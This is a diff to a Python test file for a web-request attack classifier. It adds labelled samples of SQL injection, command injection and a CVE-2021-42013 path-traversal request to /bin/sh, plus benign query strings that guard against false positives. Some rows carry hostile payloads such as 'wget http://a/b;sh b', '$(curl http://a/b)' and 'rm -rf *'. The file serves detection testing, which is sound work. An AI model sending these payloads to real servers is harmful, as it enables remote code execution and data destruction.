@@ -157,6 +157,21 @@ def test_proxy_targets_are_not_url_paths() -> None:
         ("GET /p.php?id=1+UNION+ALL+SELECT+NULL-- HTTP/1.1", 200, BROWSER, "http:sql-injection"),
         ("GET /p.php?id=1%20AND%20SLEEP(5) HTTP/1.1", 200, BROWSER, "http:sql-injection"),
         ("GET /p?x=1;wget+http://a/b;sh+b HTTP/1.1", 404, BROWSER, "http:command-injection"),
+        ("GET /ping?h=127.0.0.1%26%26id HTTP/1.1", 200, BROWSER, "http:command-injection"),
+        (
+            "GET /ping?h=127.0.0.1+%26+whoami+%26+id HTTP/1.1",
+            200,
+            BROWSER,
+            "http:command-injection",
+        ),
+        ("GET /x?a=$(curl+http://a/b) HTTP/1.1", 200, BROWSER, "http:command-injection"),
+        ("GET /x?a=1|uname+-a HTTP/1.1", 200, BROWSER, "http:command-injection"),
+        (
+            "POST /icons/.%%32%65/.%%32%65/.%%32%65/bin/sh HTTP/1.1",  # CVE-2021-42013
+            500,
+            BROWSER,
+            "http:path-traversal",
+        ),
         ("GET /shell?cd+/tmp;rm+-rf+* HTTP/1.1", 404, "Hello, world", "http:command-injection"),
         (
             "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
@@ -211,6 +226,12 @@ def test_proxy_targets_are_not_url_paths() -> None:
         ("GET /api/items HTTP/1.1", 500, "python-requests/2.31.0", "normal HTTP request"),
         ("GET /feed.xml HTTP/1.1", 200, "curl/8.4.0", "normal HTTP request"),
         ("GET /blog/?q=union+of+select+friends HTTP/1.1", 200, BROWSER, "normal HTTP request"),
+        # "&" between a query's parameters is no shell's (regression: these were exploits)
+        ("GET /index.php?option=com_content&id=12 HTTP/1.1", 200, BROWSER, "normal HTTP request"),
+        ("GET /page?a=1&uname=bob HTTP/1.1", 200, BROWSER, "normal HTTP request"),
+        ("GET /page?a=1&curl=1&wget=1 HTTP/1.1", 200, BROWSER, "normal HTTP request"),
+        ("GET /page?a=1&id HTTP/1.1", 200, BROWSER, "normal HTTP request"),
+        ("GET /music/sleep(deluxe).mp3 HTTP/1.1", 200, BROWSER, "normal HTTP request"),
         ("PROPFIND /dav/ HTTP/1.1", 207, BROWSER, "normal HTTP request"),
         (
             "GET /broken/link.php HTTP/1.1",
